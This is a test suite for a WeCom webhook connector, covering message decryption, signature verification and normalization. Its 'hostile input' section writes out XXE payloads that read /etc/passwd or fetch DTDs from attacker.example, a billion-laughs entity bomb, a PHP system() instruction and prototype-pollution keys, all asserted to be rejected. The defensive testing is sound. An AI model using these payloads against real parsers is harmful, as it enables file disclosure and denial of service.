import { readFileSync } from 'node:fs';
import { createServer, type IncomingMessage, type Server, type ServerResponse } from 'node:http';
import type { AddressInfo } from 'node:net';
import { join } from 'node:path';
import { normalizePayload, type WebhookRequest } from '@custody/connector-kit';
import type { Envelope } from '@custody/envelope';
import { DependencyUnavailableError } from '@custody/errors';
import { decrypt, encrypt, encryptCallback, wecomSignature } from './crypto';
import { wecom } from './index';
import { WecomConfig } from './types';
import { connectorContract, rejection, runConnector, deliveryRef, operatorMedia } from '@custody/testing';
import { getConnector } from '../registry';

const config = WecomConfig.parse({ token: 'Custody2025Token', encodingAesKey: 'kWxPEV2UEDyxWpmPdKC3F4dgPDmOvfKX1HGnEUDS1aR', corpId: 'ww8d1a2f3c4b5e6a7d' });
const RECEIVED_AT = new Date('2025-11-22T08:27:00.000Z');
const SENT_AT = '2025-11-22T08:26:40.000Z'; // fixture CreateTime 1763800000
const MEMBER = { kind: 'handle', value: 'ZhangSan', platformId: 'ZhangSan' } as const;
const APP = { kind: 'handle', value: 'agent:1000002', platformId: '1000002' } as const;
const CONVERSATION = { id: 'wecom:ww8d1a2f3c4b5e6a7d:1000002:ZhangSan', type: 'direct' } as const;
const FIXTURES = ['text', 'image', 'voice', 'video', 'location', 'link'];

const fixture = (name: string) => readFileSync(join(__dirname, 'fixtures', `${name}.xml`), 'utf8');
const official = JSON.parse(readFileSync(join(__dirname, 'fixtures', 'official-sample.json'), 'utf8'));

/** The callback body WeCom would POST for a decrypted message, with a fixed nonce so bodies are reproducible per call. */
function callback(messageXml: string, keys = config) {
  return encryptCallback(messageXml, keys, { timestamp: '1763800020', nonce: '1320562132' });
}

function message(fields: Record<string, string>): string {
  const base: Record<string, string> = {
    ToUserName: config.corpId,
    FromUserName: 'ZhangSan',
    CreateTime: '1763800000',
    MsgType: 'text',
    Content: 'hello',
    MsgId: '7453925831021238999',
    AgentID: '1000002',
  };
  const all = { ...base, ...fields };
  return `<xml>${Object.entries(all)
    .filter(([, v]) => v !== '\u0000')
    .map(([k, v]) => `<${k}><![CDATA[${v}]]></${k}>`)
    .join('')}</xml>`;
}

function run(body: Buffer | string, contentType = 'text/xml', tenant = 'acme', cfg: WecomConfig = config): Envelope[] {
  return runConnector(wecom, body, contentType, { tenant, receivedAt: RECEIVED_AT }, cfg);
}

function request(body: string | Buffer, query: string | Record<string, string>): WebhookRequest {
  return {
    method: 'POST',
    headers: { 'content-type': 'text/xml' },
    query: new URLSearchParams(query),
    rawBody: Buffer.isBuffer(body) ? body : Buffer.from(body),
    url: 'https://custody.example.com/webhooks/wecom',
  };
}

connectorContract({
  connector: getConnector('wecom'),
  config: {
    token: 'Custody2025Token',
    encodingAesKey: 'kWxPEV2UEDyxWpmPdKC3F4dgPDmOvfKX1HGnEUDS1aR',
    corpId: 'ww8d1a2f3c4b5e6a7d',
    corpSecret: 'wecom-corp-secret-0123',
  },
  contentType: 'text/xml',
  // the payload is the decrypted message: extra elements go into it, inside the ciphertext
  body: (extra = []) => Buffer.from(callback(message({}).replace('</xml>', `${extra.map(([k, v]) => `<${k}><![CDATA[${v}]]></${k}>`).join('')}</xml>`)).body),
  existingKey: 'Content',
  withId: (id) => Buffer.from(callback(message({ MsgId: id })).body),
  request: (rawBody, cfg: WecomConfig) => {
    const encrypted = /<Encrypt><!\[CDATA\[([^\]]*)\]\]><\/Encrypt>/.exec(rawBody.toString('latin1'))?.[1] ?? '';
    return request(rawBody, { msg_signature: wecomSignature(cfg.token, '1763800020', '1320562132', encrypted), timestamp: '1763800020', nonce: '1320562132' });
  },
  codes: { truncated: 'xml_malformed', duplicate: 'xml_malformed' },
});

describe('wecom crypto: WeCom 加解密方案', () => {
  test("the documented worked example: signature and decryption match WeCom's published vectors", () => {
    const { config: keys, verifyUrl, message: msg } = official;
    const q = verifyUrl.query;
    expect(wecomSignature(keys.token, q.timestamp, q.nonce, q.echostr)).toBe(q.msg_signature);
    expect(decrypt(q.echostr, keys.encodingAesKey, keys.corpId).toString('utf8')).toBe(verifyUrl.plaintext);
    const enc = /<Encrypt><!\[CDATA\[(.*)\]\]><\/Encrypt>/.exec(msg.body)![1];
    expect(wecomSignature(keys.token, msg.query.timestamp, msg.query.nonce, enc)).toBe(msg.query.msg_signature);
    expect(decrypt(enc, keys.encodingAesKey, keys.corpId).toString('utf8')).toContain('<Content><![CDATA[hello]]></Content>');
  });

  test('encrypt is the exact inverse of decrypt, padding to 32-byte blocks', () => {
    for (const text of ['', 'a', 'x'.repeat(11), 'y'.repeat(12), '中文 ✓ '.repeat(40)]) {
      const enc = encrypt(text, config.encodingAesKey, config.corpId, Buffer.alloc(16, 1));
      expect(Buffer.from(enc, 'base64').length % 32).toBe(0);
      expect(decrypt(enc, config.encodingAesKey, config.corpId).toString('utf8')).toBe(text);
    }
    // a fresh random prefix per call, as WeCom does
    expect(encrypt('same', config.encodingAesKey, config.corpId)).not.toBe(encrypt('same', config.encodingAesKey, config.corpId));
  });

  test('wrong key, wrong corp, tampered or non-base64 ciphertext are refused', () => {
    const enc = encrypt('<xml/>', config.encodingAesKey, config.corpId);
    rejection(() => decrypt(enc, official.config.encodingAesKey, config.corpId), 'decrypt_failed');
    rejection(() => decrypt(enc, config.encodingAesKey, 'wwAnotherCorp'), 'receiveid_mismatch');
    rejection(() => decrypt(enc.slice(0, -8), config.encodingAesKey, config.corpId), 'decrypt_failed');
    rejection(() => decrypt('not*base64', config.encodingAesKey, config.corpId), 'decrypt_failed');
    rejection(() => decrypt('', config.encodingAesKey, config.corpId), 'decrypt_failed');
  });
});

describe('wecom connector: fixtures', () => {
  test('connector identity and acknowledgement', () => {
    expect(wecom.id).toBe('wecom');
    expect(wecom.channel).toBe('wecom');
    expect(wecom.acknowledge!([], config)).toEqual({ status: 200, contentType: 'text/plain', body: 'success' });
  });

  test('the documented sample callback verifies, decrypts and normalizes', () => {
    const { config: keys, message: msg } = official;
    const cfg = WecomConfig.parse(keys);
    expect(() => wecom.verify(request(msg.body, msg.query), cfg)).not.toThrow();
    const [env, ...more] = run(msg.body, 'text/xml', 'acme', cfg);
    expect(more).toHaveLength(0);
    expect(env).toMatchObject({
      kind: 'message',
      channel: 'wecom',
      source: { connector: 'wecom', externalId: '4561255354251345929', accountId: 'wx5823bf96d3bd56c7:218' },
      conversation: { id: 'wecom:wx5823bf96d3bd56c7:218:mycreate', type: 'direct' },
      sender: { kind: 'handle', value: 'mycreate', platformId: 'mycreate' },
      recipients: [{ kind: 'handle', value: 'agent:218', platformId: '218' }],
      direction: 'inbound',
      sentAt: '2014-09-02T12:10:13.000Z',
      content: { text: 'hello', format: 'wecom/text' },
    });
  });

  test('text: one inbound message with the decrypted text, the encrypted body kept as source.raw', () => {
    const { body } = callback(fixture('text'));
    const [env, ...more] = run(body);
    expect(more).toHaveLength(0);
    expect(env).toEqual({
      schema: 'custody.envelope/v1',
      id: expect.stringMatching(/^[0-9a-f]{40}$/),
      tenant: 'acme',
      kind: 'message',
      channel: 'wecom',
      source: {
        connector: 'wecom',
        externalId: '7453925831021238272',
        accountId: 'ww8d1a2f3c4b5e6a7d:1000002',
        receivedAt: RECEIVED_AT.toISOString(),
        raw: deliveryRef(body, 'text/xml'),
      },
      conversation: CONVERSATION,
      sender: MEMBER,
      recipients: [APP],
      direction: 'inbound',
      sentAt: SENT_AT,
      capturedAt: RECEIVED_AT.toISOString(),
      content: { text: '请帮我买入500股 ACME <市价> & 确认', format: 'wecom/text' },
      integrity: { sha256: expect.stringMatching(/^[0-9a-f]{64}$/) },
    });
    expect(env.attachments).toBeUndefined();
    expect(env.source.raw).toEqual(deliveryRef(body, 'text/xml')); // evidence is the ciphertext as received
  });

  test('image, voice and video: one attachment each, fetchable by media id', () => {
    const [image, voice, video] = ['image', 'voice', 'video'].map((n) => run(callback(fixture(n)).body)[0]);
    expect(image).toMatchObject({
      kind: 'message',
      sender: MEMBER,
      recipients: [APP],
      conversation: CONVERSATION,
      sentAt: SENT_AT,
      content: { format: 'wecom/image' },
    });
    expect(image.attachments).toEqual([
      {
        id: '1Ne7vZzPMx2aVtbu8ktzM7GUtHGg3ZWkw6fTtBu7qGc0jXaGMKUNw-i1N7k6AbR9s',
        kind: 'image',
        sourceRef: 'wecom-media:1Ne7vZzPMx2aVtbu8ktzM7GUtHGg3ZWkw6fTtBu7qGc0jXaGMKUNw-i1N7k6AbR9s',
      },
    ]);
    expect(voice.attachments).toEqual([
      {
        id: '3WbkVe3WGQ9fXhJ2dsKpGmnVb8oEU9x4bSzzeHqEGDHjxZ2nGN2QyYo7p2hM1vqKx',
        kind: 'voice',
        mimeType: 'audio/amr',
        sourceRef: 'wecom-media:3WbkVe3WGQ9fXhJ2dsKpGmnVb8oEU9x4bSzzeHqEGDHjxZ2nGN2QyYo7p2hM1vqKx',
      },
    ]);
    expect(video.attachments).toEqual([
      { id: '2-G6nrLmr5EC3MNb_-zL1dDdzkd0p7cNliYu9V5w7o8K0', kind: 'video', sourceRef: 'wecom-media:2-G6nrLmr5EC3MNb_-zL1dDdzkd0p7cNliYu9V5w7o8K0' },
    ]);
    expect([image, voice, video].map((e) => e.source.externalId)).toEqual(['7453925831021238273', '7453925831021238274', '7453925831021238275']);
  });

  test('file: a document attachment', () => {
    const [env] = run(callback(message({ MsgType: 'file', Content: '\u0000', MediaId: 'FILE123' })).body);
    expect(env.attachments).toEqual([{ id: 'FILE123', kind: 'document', sourceRef: 'wecom-media:FILE123' }]);
    expect(env.content).toEqual({ format: 'wecom/file' });
  });

  test('location and link: searchable text', () => {
    const [location] = run(callback(fixture('location')).body);
    expect(location.content).toEqual({ text: '广州市海珠区新港中路397号\n23.134521,113.358803', format: 'wecom/location' });
    const [link] = run(callback(fixture('link')).body);
    expect(link.content).toEqual({
      text: 'Q3 fund factsheet\nPerformance and holdings as of 30 September\nhttps://example.com/factsheet-q3.pdf',
      format: 'wecom/link',
    });
  });

  test('events (enter_agent) are app events, not communications: nothing archived, still acknowledged', () => {
    expect(run(callback(fixture('event-enter-agent')).body)).toEqual([]);
  });

  test('a member UserID that looks like a phone number stays a handle: it is an id, not a number', () => {
    const [env] = run(callback(message({ FromUserName: '13800138000' })).body);
    expect(env.sender).toEqual({ kind: 'handle', value: '13800138000', platformId: '13800138000' });
  });

  test('an unmodelled MsgType is archived, not dropped', () => {
    for (const type of ['shortvideo', 'miniprogram', 'constructor', 'toString']) {
      const [env] = run(callback(message({ MsgType: type, Content: '\u0000' })).body);
      expect(env).toMatchObject({ kind: 'message', content: { format: `wecom/${type}` } });
      expect(env.attachments).toBeUndefined();
    }
  });

  test.each(FIXTURES)('%s: the same callback twice gives the same ids; ids are per tenant', (name) => {
    const { body } = callback(fixture(name));
    const first = run(body);
    const second = run(body);
    expect(second).toEqual(first);
    // WeCom's retry re-encrypts with a new random prefix: still the same record
    const retry = run(callback(fixture(name)).body);
    expect(retry.map((e) => e.id)).toEqual(first.map((e) => e.id));
    expect(run(body, 'text/xml', 'globex')[0].id).not.toBe(first[0].id);
  });

  test('ids are unique across fixtures', () => {
    const ids = FIXTURES.flatMap((n) => run(callback(fixture(n)).body).map((e) => e.id));
    expect(new Set(ids).size).toBe(FIXTURES.length);
  });
});

describe('wecom connector: msg_signature', () => {
  const { body, query } = callback(fixture('text'));

  test('accepts the correct signature (also upper-cased)', () => {
    expect(() => wecom.verify(request(body, query), config)).not.toThrow();
    const q = new URLSearchParams(query);
    q.set('msg_signature', q.get('msg_signature')!.toUpperCase());
    expect(() => wecom.verify(request(body, q.toString()), config)).not.toThrow();
  });

  test('missing msg_signature, timestamp or nonce → 401 signature_missing', () => {
    for (const drop of ['msg_signature', 'timestamp', 'nonce']) {
      const q = new URLSearchParams(query);
      q.delete(drop);
      rejection(() => wecom.verify(request(body, q.toString()), config), 'signature_missing', 401);
    }
  });

  test('wrong token, other timestamp or nonce → 401 signature_invalid', () => {
    rejection(() => wecom.verify(request(body, query), { ...config, token: 'AnotherToken1' }), 'signature_invalid', 401);
    for (const [k, v] of [
      ['timestamp', '1763800021'],
      ['nonce', '1'],
      ['msg_signature', 'deadbeef'],
    ]) {
      const q = new URLSearchParams(query);
      q.set(k, v);
      rejection(() => wecom.verify(request(body, q.toString()), config), 'signature_invalid', 401);
    }
  });

  test('a ciphertext changed by one byte → 401 signature_invalid', () => {
    const at = body.indexOf('<Encrypt><![CDATA[') + 30;
    const modified = body.slice(0, at) + (body[at] === 'A' ? 'B' : 'A') + body.slice(at + 1);
    expect(modified.length).toBe(body.length);
    rejection(() => wecom.verify(request(modified, query), config), 'signature_invalid', 401);
  });

  test('the unsigned outer fields cannot change what is archived', () => {
    // ToUserName/AgentID outside <Encrypt> are not covered by msg_signature: only decrypted fields are used
    const forged = body.replace(`<ToUserName><![CDATA[${config.corpId}]]></ToUserName>`, '<ToUserName><![CDATA[wwEvilCorp]]></ToUserName><AgentID>9</AgentID>');
    expect(() => wecom.verify(request(forged, query), config)).not.toThrow();
    const [env] = run(forged);
    expect(env).toMatchObject({ conversation: CONVERSATION, recipients: [APP], source: { accountId: 'ww8d1a2f3c4b5e6a7d:1000002' } });
  });

  test('a duplicated <Encrypt> is refused before any signature check can be confused', () => {
    const doubled = body.replace('</xml>', '<Encrypt><![CDATA[AAAA]]></Encrypt></xml>');
    rejection(() => wecom.verify(request(doubled, query), config), 'xml_malformed');
  });
});

describe('wecom connector: URL verification handshake', () => {
  const handshake = (q: Record<string, string>, cfg = config) =>
    wecom.handshake!(
      { method: 'GET', headers: {}, query: new URLSearchParams(q), rawBody: Buffer.alloc(0), url: 'https://custody.example.com/webhooks/wecom' },
      cfg,
    );

  test('the documented example answers with the decrypted echostr', () => {
    const cfg = WecomConfig.parse(official.config);
    expect(handshake(official.verifyUrl.query, cfg)).toEqual({ status: 200, contentType: 'text/plain', body: '1616140317555161061' });
    // "+" left unescaped by the caller arrives as a space
    const spaced = { ...official.verifyUrl.query, echostr: official.verifyUrl.query.echostr.replace(/\+/g, ' ') };
    expect(handshake(spaced, cfg).body).toBe('1616140317555161061');
  });

  test('a wrong signature gets 401 and never the plaintext', () => {
    const echostr = encrypt('8847162534', config.encodingAesKey, config.corpId);
    const good = { msg_signature: wecomSignature(config.token, '1763800000', '42', echostr), timestamp: '1763800000', nonce: '42', echostr };
    expect(handshake(good)).toEqual({ status: 200, contentType: 'text/plain', body: '8847162534' });
    const bad = handshake({ ...good, msg_signature: wecomSignature('OtherToken', '1763800000', '42', echostr) });
    expect(bad.status).toBe(401);
    expect(bad.body).not.toContain('8847162534');
  });

  test('missing parameters, another corp or a non-token plaintext get 400', () => {
    expect(handshake({ timestamp: '1', nonce: '2', echostr: 'x' }).status).toBe(400);
    const sign = (echostr: string) => ({ msg_signature: wecomSignature(config.token, '1', '2', echostr), timestamp: '1', nonce: '2', echostr });
    const otherCorp = handshake(sign(encrypt('123', config.encodingAesKey, 'wwOther')));
    expect(otherCorp.status).toBe(400);
    expect(handshake(sign(encrypt('<script>alert(1)</script>', config.encodingAesKey, config.corpId))).status).toBe(400);
  });
});

describe('wecom connector: hostile input', () => {
  const encrypted = (xml: string) => callback(xml).body;

  test('XML entity expansion (billion laughs) is refused, outside and inside the ciphertext', () => {
    const lol = `<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol"><!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;"><!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">]>`;
    const outer = `${lol}<xml><ToUserName>&lol3;</ToUserName><Encrypt><![CDATA[AAAA]]></Encrypt></xml>`;
    expect(rejection(() => run(outer), 'xml_forbidden').message).toBe('wecom callback: a DOCTYPE is not allowed');
    rejection(() => wecom.verify(request(outer, callback(fixture('text')).query), config), 'xml_forbidden');
    const inner = `${lol}<xml><ToUserName>ww8d1a2f3c4b5e6a7d</ToUserName><FromUserName>ZhangSan</FromUserName><CreateTime>1763800000</CreateTime><MsgType>text</MsgType><Content>&lol3;</Content><MsgId>1</MsgId><AgentID>1</AgentID></xml>`;
    expect(rejection(() => run(encrypted(inner)), 'xml_forbidden').message).toBe('wecom message: a DOCTYPE is not allowed');
  });

  test('XXE (external entities, parameter entities, SYSTEM DOCTYPE) is refused', () => {
    const attacks = [
      '<!DOCTYPE xml [<!ENTITY xxe SYSTEM "file:///etc/passwd">]><xml><Content>&xxe;</Content></xml>',
      '<!DOCTYPE xml SYSTEM "http://attacker.example/evil.dtd"><xml/>',
      '<!DOCTYPE xml [<!ENTITY % dtd SYSTEM "http://attacker.example/x.dtd"> %dtd;]><xml/>',
      '<xml><!ENTITY xxe SYSTEM "file:///etc/passwd"><Content>x</Content></xml>',
      '<xml><Content>&xxe;</Content></xml>', // an undeclared entity is never resolved from anywhere
    ];
    for (const xml of attacks) {
      rejection(() => run(encrypted(xml)), 'xml_forbidden');
      rejection(() => run(xml), 'xml_forbidden');
    }
  });

  test('processing instructions and comments are refused; the XML declaration is accepted', () => {
    rejection(() => run(encrypted('<xml><?php system("id"); ?><Content>x</Content></xml>')), 'xml_forbidden');
    rejection(() => run(encrypted('<?xml-stylesheet href="x.xsl"?><xml/>')), 'xml_forbidden');
    rejection(() => run(encrypted('<xml><!-- hidden --><Content>x</Content></xml>')), 'xml_forbidden');
    expect(run(encrypted(`<?xml version="1.0" encoding="UTF-8"?>\n${message({})}`))).toHaveLength(1);
  });

  test('markup-like text inside CDATA, predefined entities and numeric references are plain text', () => {
    const xml = message({}).replace(
      '<Content><![CDATA[hello]]></Content>',
      '<Content><![CDATA[<!DOCTYPE html><?x?>&lol;]]> &lt;b&gt; &amp; &#x4E2D;&#25991; &quot;q&quot; &apos;a&apos;</Content>',
    );
    expect(run(encrypted(xml))[0].content!.text).toBe('<!DOCTYPE html><?x?>&lol; <b> & 中文 "q" \'a\'');
  });

  test('malformed XML: truncated, bare &, attributes, mismatched tags, invalid characters → xml_malformed', () => {
    const { body } = callback(fixture('text'));
    rejection(() => run(body.slice(0, body.length - 10)), 'xml_malformed');
    for (const xml of [
      message({}).slice(0, -12),
      '<xml><Content>AT&T</Content></xml>',
      '<xml><Content a="1">x</Content></xml>',
      '<xml><Content>x</Other></xml>',
      '<xml><Content>&#0;</Content></xml>',
      '<xml><Content>\u0001</Content></xml>',
      '<xml><a>x<b>y</b></a></xml>',
      '<xml/><xml/>',
    ]) {
      rejection(() => run(encrypted(xml)), 'xml_malformed');
    }
  });

  test('deep nesting → xml_too_deep; too many elements or bytes → xml_too_large', () => {
    rejection(() => run(encrypted(`<xml>${'<a>'.repeat(10)}x${'</a>'.repeat(10)}</xml>`)), 'xml_too_deep');
    rejection(() => run(encrypted(`<xml>${'<a/>'.repeat(600)}</xml>`)), 'xml_too_large');
    const huge = `<xml><ToUserName>${config.corpId}</ToUserName><Encrypt>${'A'.repeat(2 * 1024 * 1024)}</Encrypt></xml>`;
    rejection(() => run(huge), 'xml_too_large');
  });

  test('a large text (half a megabyte) is archived intact', () => {
    const big = '大'.repeat(150_000);
    expect(run(encrypted(message({ Content: big })))[0].content!.text).toBe(big);
  });

  test('no <Encrypt> → schema_violation', () => {
    rejection(() => run('<xml><ToUserName>x</ToUserName></xml>'), 'schema_violation');
    rejection(() => run('<other><Encrypt>AAAA</Encrypt></other>'), 'schema_violation');
  });

  test('ciphertext for another corp, under another key or not base64 → receiveid_mismatch / decrypt_failed', () => {
    rejection(() => run(callback(fixture('text'), { ...config, corpId: 'wwSomeoneElse' }).body), 'receiveid_mismatch');
    rejection(() => run(callback(fixture('text'), { ...config, encodingAesKey: official.config.encodingAesKey }).body), 'decrypt_failed');
    rejection(() => run(`<xml><Encrypt><![CDATA[%%%]]></Encrypt></xml>`), 'decrypt_failed');
  });

  test('wrong field types → schema_violation naming the decrypted field', () => {
    expect(rejection(() => run(encrypted(message({ CreateTime: 'yesterday' }))), 'schema_violation').message).toContain('message.CreateTime');
    expect(rejection(() => run(encrypted(message({ MsgId: 'abc' }))), 'schema_violation').message).toContain('message.MsgId');
    expect(rejection(() => run(encrypted(message({ MsgType: 'location', Location_X: 'north', Location_Y: '1' }))), 'schema_violation').message).toContain(
      'message.Location_X',
    );
  });

  test('missing required fields → schema_violation naming each', () => {
    for (const field of ['FromUserName', 'CreateTime', 'MsgType', 'MsgId', 'AgentID']) {
      expect(rejection(() => run(encrypted(message({ [field]: '\u0000' }))), 'schema_violation').message).toContain(`message.${field}`);
    }
    expect(rejection(() => run(encrypted(message({ Content: '\u0000' }))), 'schema_violation').message).toBe(
      'wecom callback: message.Content: required for MsgType text',
    );
    expect(rejection(() => run(encrypted(message({ MsgType: 'image', Content: '\u0000' }))), 'schema_violation').message).toContain('message.MediaId');
  });

  test('a constructor element in the outer XML → forbidden_key', () => {
    rejection(() => run('<xml><constructor>1</constructor><Encrypt>AAAA</Encrypt></xml>'), 'forbidden_key');
    expect(({} as Record<string, unknown>).polluted).toBeUndefined();
  });

  test('far-future CreateTime → timestamp_in_future; zero → bad_timestamp', () => {
    const future = String(Math.floor(RECEIVED_AT.getTime() / 1000) + 2 * 86_400);
    expect(rejection(() => run(encrypted(message({ CreateTime: future }))), 'timestamp_in_future').message).toContain('message.CreateTime');
    rejection(() => run(encrypted(message({ CreateTime: '0' }))), 'bad_timestamp');
  });

  test('one bad message is a RejectedEvent with its path (a callback carries exactly one message)', () => {
    const { envelopes, rejected } = normalizePayload(
      wecom,
      Buffer.from(encrypted(message({ CreateTime: 'soon' }))),
      'text/xml',
      { tenant: 'acme', receivedAt: RECEIVED_AT },
      config,
    );
    expect(envelopes).toEqual([]);
    expect(rejected).toEqual([{ rejected: true, code: 'schema_violation', reason: expect.stringContaining('message.CreateTime'), path: 'Encrypt' }]);
  });

  test('wrong content-type → 415; no config → connector_config_required listing the settings', () => {
    const { body } = callback(fixture('text'));
    for (const ct of ['application/json', 'text/plain', 'application/xhtml+xml']) rejection(() => run(body, ct), 'unsupported_media_type', 415);
    expect(run(body, 'application/xml; charset=utf-8')).toHaveLength(1);
    expect(run(body, '')[0].source.raw.contentType).toBe('text/xml');
    const missing = rejection(
      () => normalizePayload(wecom, Buffer.from(body), 'text/xml', { tenant: 'acme', receivedAt: RECEIVED_AT }),
      'connector_config_required',
    );
    expect(missing.message).toContain('token (required, secret): Callback Token');
    expect(missing.message).toContain('encodingAesKey (required, secret)');
    expect(missing.message).toContain('corpId (required): CorpID');
    expect(missing.message).toContain('corpSecret (optional, secret)');
  });
});

describe('wecom connector: decrypted callbacks (custody normalize --decrypted)', () => {
  const decrypted = (xml: string, cfg?: WecomConfig) => {
    const only = { ...wecom, parse: (raw: Buffer, ct: string, c?: WecomConfig) => wecom.parseDecrypted!(raw, ct, c) };
    return normalizePayload(only, Buffer.from(xml), 'text/xml', { tenant: 'acme', receivedAt: RECEIVED_AT }, cfg);
  };

  test('the plaintext XML normalizes like the encrypted callback, without keys; the corp comes from ToUserName', () => {
    const [plain] = decrypted(fixture('text')).envelopes;
    const [encrypted] = run(callback(fixture('text')).body);
    const { source: plainSource, id: _p, integrity: _pi, ...plainRest } = plain;
    const { source: encSource, id: _e, integrity: _ei, ...encRest } = encrypted;
    expect(plainRest).toEqual(encRest);
    expect([plainSource.externalId, plainSource.accountId]).toEqual([encSource.externalId, encSource.accountId]);
    expect(plain.conversation).toEqual(CONVERSATION);
    expect(decrypted(fixture('text'), config).envelopes[0].conversation).toEqual(CONVERSATION);
  });

  test('plaintext goes through the same strict XML reader and schema', () => {
    expect(() => decrypted('<!DOCTYPE x [<!ENTITY a "b">]><xml/>')).toThrow(expect.objectContaining({ code: 'xml_forbidden' }));
    expect(decrypted(message({ CreateTime: 'soon' })).rejected).toEqual([expect.objectContaining({ code: 'schema_violation' })]);
  });

  test('a webhook never reads plaintext: posted to the gateway path it has no <Encrypt> and is refused', () => {
    rejection(() => run(fixture('text')), 'schema_violation');
  });
});

describe('wecom connector: fetchMedia', () => {
  let server: Server;
  let base: string;
  const calls: string[] = [];
  let mediaAnswer: (res: ServerResponse) => void;

  beforeAll(async () => {
    server = createServer((req: IncomingMessage, res: ServerResponse) => {
      const url = new URL(req.url!, 'http://x');
      calls.push(`${url.pathname}?${url.searchParams.get('media_id') ?? url.searchParams.get('corpsecret')}`);
      if (url.pathname === '/wecom/cgi-bin/gettoken') {
        res
          .writeHead(200, { 'content-type': 'application/json' })
          .end(JSON.stringify({ errcode: 0, errmsg: 'ok', access_token: `tok-${calls.length}`, expires_in: 7200 }));
      } else if (url.pathname === '/wecom/cgi-bin/media/get' && url.searchParams.get('access_token')?.startsWith('tok-')) {
        mediaAnswer(res);
      } else res.writeHead(404).end();
    });
    await new Promise<void>((r) => server.listen(0, '127.0.0.1', r));
    base = `http://127.0.0.1:${(server.address() as AddressInfo).port}/wecom`;
  });
  afterAll(() => new Promise<void>((r) => server.close(() => r())));
  beforeEach(() => (calls.length = 0));

  const att = { id: 'MEDIA1', kind: 'image' as const, sourceRef: 'wecom-media:MEDIA1' };
  const cfg = () => ({ ...config, corpSecret: `secret-${Math.random()}` });
  const fake = () => operatorMedia(wecom, base);
  const read = async (body: NodeJS.ReadableStream) => {
    const chunks: Buffer[] = [];
    for await (const c of body) chunks.push(Buffer.from(c as Buffer));
    return Buffer.concat(chunks);
  };

  test('streams the file with its type and size; the access_token is fetched once and reused', async () => {
    const content = Buffer.alloc(200_000, 7);
    mediaAnswer = (res) =>
      res
        .writeHead(200, { 'content-type': 'image/jpeg', 'content-length': String(content.length), 'content-disposition': 'attachment; filename="a.jpg"' })
        .end(content);
    const c = cfg();
    const first = await wecom.fetchMedia!(att, c, fake());
    expect({ mimeType: first.mimeType, size: first.size }).toEqual({ mimeType: 'image/jpeg', size: content.length });
    expect((await read(first.body)).equals(content)).toBe(true);
    await read((await wecom.fetchMedia!(att, c, fake())).body);
    expect(calls.filter((u) => u.includes('gettoken'))).toHaveLength(1);
    expect(calls.filter((u) => u.includes('media/get?MEDIA1'))).toHaveLength(2);
  });

  test('an expired media id (errcode 40007, HTTP 200 JSON) → media_not_found 404', async () => {
    mediaAnswer = (res) => res.writeHead(200, { 'content-type': 'application/json; charset=UTF-8' }).end('{"errcode":40007,"errmsg":"invalid media_id"}');
    await expect(wecom.fetchMedia!(att, cfg(), fake())).rejects.toMatchObject({ code: 'media_not_found', status: 404 });
  });

  test('an expired access_token is retriable and forgotten, so the retry gets a new one', async () => {
    const c = cfg();
    mediaAnswer = (res) => res.writeHead(200, { 'content-type': 'application/json' }).end('{"errcode":42001,"errmsg":"access_token expired"}');
    await expect(wecom.fetchMedia!(att, c, fake())).rejects.toBeInstanceOf(DependencyUnavailableError);
    mediaAnswer = (res) => res.writeHead(200, { 'content-type': 'image/png', 'content-disposition': 'attachment; filename="b.png"' }).end('png');
    expect((await read((await wecom.fetchMedia!(att, c, fake())).body)).toString()).toBe('png');
    expect(calls.filter((u) => u.includes('gettoken'))).toHaveLength(2);
  });

  test('HTTP 5xx/429 → DependencyUnavailableError; other 4xx → RejectedInputError', async () => {
    mediaAnswer = (res) => res.writeHead(503).end();
    await expect(wecom.fetchMedia!(att, cfg(), fake())).rejects.toBeInstanceOf(DependencyUnavailableError);
    mediaAnswer = (res) => res.writeHead(429).end();
    await expect(wecom.fetchMedia!(att, cfg(), fake())).rejects.toBeInstanceOf(DependencyUnavailableError);
    mediaAnswer = (res) => res.writeHead(403).end();
    await expect(wecom.fetchMedia!(att, cfg(), fake())).rejects.toMatchObject({ code: 'media_unavailable', status: 403 });
  });

  test('without corpSecret or a wecom-media reference nothing is fetched', async () => {
    await expect(wecom.fetchMedia!(att, config, fake())).rejects.toMatchObject({ code: 'media_not_configured' });
    await expect(wecom.fetchMedia!({ ...att, sourceRef: 'telegram-file:1' }, cfg(), fake())).rejects.toMatchObject({ code: 'bad_media_ref' });
    expect(calls).toHaveLength(0);
  });
});
